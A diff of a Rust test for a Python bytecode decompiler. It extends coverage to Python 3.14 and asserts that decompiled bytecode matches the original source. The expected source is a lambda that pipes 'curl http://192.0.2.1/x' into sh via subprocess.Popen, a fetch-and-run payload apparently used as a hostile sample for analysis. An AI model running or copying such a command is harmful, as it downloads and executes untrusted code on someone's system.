@@ -47,13 +47,11 @@ fn bytecode_is_shown_as_the_source_it_was_compiled_from() {
     assert_eq!(shown(&read(FUNCTION)), SOURCE);
     let lambda = "lambda x: (__import__('subprocess').Popen('curl http://192.0.2.1/x | sh', shell=True), x)[1]\n";
     for (version, code) in POPEN {
-        if version < Version::three(14) {
-            assert_eq!(shown(&read(code)), lambda, "{version}");
-        }
+        assert_eq!(shown(&read(code)), lambda, "{version}");
     }
     for (version, code) in NORMALIZE.into_iter().chain(BRANCH).chain(MODULE) {
         let decompiled = decompile(&read(code), &mut Budget::default());
-        let supported = (6..14).contains(&version.minor) && version.major == 3;
+        let supported = (6..=14).contains(&version.minor) && version.major == 3;
         assert!(
             decompiled.not_recovered.is_empty() || !supported,
             "{version}: {}",
